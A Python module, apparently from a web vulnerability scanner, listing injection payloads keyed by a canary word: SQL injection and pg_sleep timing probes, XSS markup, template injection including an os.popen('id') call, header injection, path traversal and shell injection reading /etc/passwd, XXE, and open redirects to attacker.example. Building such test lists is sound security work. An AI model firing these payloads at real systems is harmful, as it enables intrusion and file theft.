"""What attackers write where a name or a date was asked for. `{}` becomes a word by which the answer is known."""

from __future__ import annotations

SQL = (
    "'",
    "{}' OR '1'='1",
    "{}') OR ('1'='1' --",
    '{}" OR 1=1 --',
    "1; SELECT version() --",
    "{}' UNION SELECT NULL,NULL,version() --",
    "1 AND 1=CAST((SELECT version()) AS int)",
    "{}'||(SELECT CAST(version() AS int))||'",
    "\\",
)
PAUSE = 4.0
SLEEPS = (
    "{}' || (SELECT pg_sleep(4)) || '",
    "{}'; SELECT pg_sleep(4); --",
    "{}') OR 1=(SELECT 1 FROM pg_sleep(4)) --",
    "1 OR 1=(SELECT 1 FROM pg_sleep(4))",
)
# Each begins with a sign that stands raw in an answer only where nothing was escaped.
MARKUP = (
    "<{}x onfocus=alert(1)>",
    '"><{}x src=x onerror=alert(1)>',
    "'><{}x>",
    "</script><{}x>",
    "</title></textarea><{}x>",
    "<!--><{}x>",
    "javascript:alert(`{}`)",
    "＜{}x＞<{}x>",
)
TEMPLATES = (
    "{}{{7919*7927}}",
    "{}{% if 7919*7927 %}{{7919*7927}}{% endif %}",
    "{}${7919*7927}",
    "{}#{7919*7927}",
    "{}<%= 7919*7927 %>",
    "{}{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{}{{config}}",
    "{}{{request.META}}",
)
COMPUTED = "62773913"  # 7919 * 7927
HEADERS = (
    "{}\r\nX-Attacked: {}",
    "{}\nSet-Cookie: attacked={}",
    "{}\r\n\r\n<{}x>",
    "{}\u560a\u560dX-Attacked: {}",
)
FILES = (
    "../../../../../../etc/passwd",
    "..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "....//....//....//....//etc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "/etc/passwd\0.csv",
    "php://filter/resource=/etc/passwd",
    "; cat /etc/passwd",
    "$(cat /etc/passwd)",
    "`cat /etc/passwd`",
    "|cat /etc/passwd",
)
ELSEWHERE = "attacker.example"
REDIRECTS = (
    f"//{ELSEWHERE}/{{}}",
    f"https://{ELSEWHERE}/{{}}",
    f"/\\{ELSEWHERE}/{{}}",
    f"///{ELSEWHERE}/{{}}",
    f"/\t/{ELSEWHERE}/{{}}",
    f"https:{ELSEWHERE}/{{}}",
    f"http://127.0.0.1@{ELSEWHERE}/{{}}",
    f"/%2f%2f{ELSEWHERE}/{{}}",
    f"javascript://{ELSEWHERE}/%0aalert(1)",
)
ODD = (
    "\0",
    "{}\0{}",
    "\ufffe\uffff",
    "\u202e{}\u200b",
    "９９９９",
    "9" * 400,
    "-1",
    "NaN",
    "1e999",
    "null",
    "[]",
    "{}[$ne]",
    "0000-00-00",
    "9999-12-31",
    "0001-01-01",
    "*)(uid=*",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "x" * 100_000,
)
# The first of each kind in one: where time is short, every parameter has met this.
ALL_IN_ONE = ("{}'\"><{}x>{{7919*7927}}${7919*7927}\r\nX-Attacked: {}\\../../../../etc/passwd",)
KINDS = {
    "all in one": ALL_IN_ONE,
    "sql": SQL,
    "markup": MARKUP,
    "templates": TEMPLATES,
    "headers": HEADERS,
    "files": FILES,
    "redirects": REDIRECTS,
    "odd": ODD,
}


def filled(payload: str, word: str) -> str:
    """The payload with the word in its places."""
    return payload.replace("{}", word)
